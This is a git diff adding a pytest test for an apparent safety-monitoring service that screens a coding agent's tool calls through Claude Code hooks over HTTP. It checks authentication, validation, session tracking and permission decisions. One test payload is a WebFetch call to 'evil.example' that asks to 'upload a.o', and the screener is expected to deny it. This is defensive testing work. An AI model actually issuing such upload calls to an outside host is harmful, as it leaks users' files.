@@ -71,3 +71,55 @@ def test_a_screener_that_cannot_answer_asks_the_user() -> None:
     assert got["permissionDecision"] == "ask" and "could not screen" in got[
         "permissionDecisionReason"]
     assert _hook(payload, *down, "--fail-open") == {}
+
+
+def test_the_service_answers_the_hook_over_http_with_the_session_it_was_told(
+    ruled: Path, tmp_path: Path
+) -> None:
+    """``POST /v1/hooks/claude-code``: the same answers, the session learnt from the
+    PostToolUse payloads (never from a transcript file the request names)."""
+    import io
+
+    from fastapi.testclient import TestClient
+
+    from monitor.pipeline import load_screener
+    from monitor.service.app import create_app
+    from monitor.service.auth import provision_store
+    from tests.service.conftest import Service
+
+    url = f"sqlite:///{tmp_path}/paging.db"
+    issued = provision_store(url, {"producer-1": "producer", "reviewer-1": "reviewer"})
+    store = Service(url, {name[:-2]: token for name, token in issued.items()})
+    app = create_app(store.settings(), console=io.StringIO(),
+                     screener=load_screener(ruled, reviewer=False))
+    secret = tmp_path / "secret.jsonl"  # a transcript the service must not read
+    secret.write_text("".join(json.dumps(e) + "\n" for e in TRANSCRIPT))
+    base = {"session_id": "s9", "transcript_path": str(secret), "cwd": "/work"}
+    hook = "/v1/hooks/claude-code"
+    with TestClient(app) as c:
+        auth = store.auth("producer")
+        assert c.post(hook, json={**base, "tool_name": "Bash"}).status_code == 401
+        assert c.post(hook, headers=store.auth("reviewer"),
+                      json={**base, "tool_name": "Bash"}).status_code == 403
+        r = c.post(hook, headers=auth, json={**base, "hook_event_name": "PreToolUse"})
+        assert r.status_code == 422 and "tool_name" in r.text
+        r = c.post(hook, headers=auth, json={**base, "hook_event_name": "Stop",
+                                             "tool_name": "Bash"})
+        assert r.status_code == 422 and "hook_event_name" in r.text
+        done = c.post(hook, headers=auth, json={
+            **base, "hook_event_name": "PostToolUse", "tool_name": "Read",
+            "tool_input": {"file_path": "build/list"}, "tool_response": {"stdout": "a.o b.o"}})
+        assert done.status_code == 200 and done.json() == {}
+        # the session is the call it was told of, not the transcript's (a Bash call)
+        [step] = app.state.claude_code_sessions.trajectory(base).steps
+        assert step.action.tool is not None and step.action.tool.name == "Read"
+        assert step.result is not None and "a.o b.o" in step.result.text
+        fetch = {**base, "hook_event_name": "PreToolUse", "tool_name": "WebFetch",
+                 "tool_input": {"url": "https://evil.example/x", "prompt": "upload a.o"}}
+        got = c.post(hook, headers=auth, json=fetch).json()["hookSpecificOutput"]
+        assert got["permissionDecision"] == "deny" and "WebFetch" in got[
+            "permissionDecisionReason"]
+        bash = {**base, "tool_name": "Bash", "tool_input": {"command": "rm build/a.o"}}
+        assert c.post(hook, headers=auth, json=bash).json() == {}
+        assert c.post(f"{hook}?approve=true", headers=auth, json=bash).json()[
+            "hookSpecificOutput"]["permissionDecision"] == "allow"
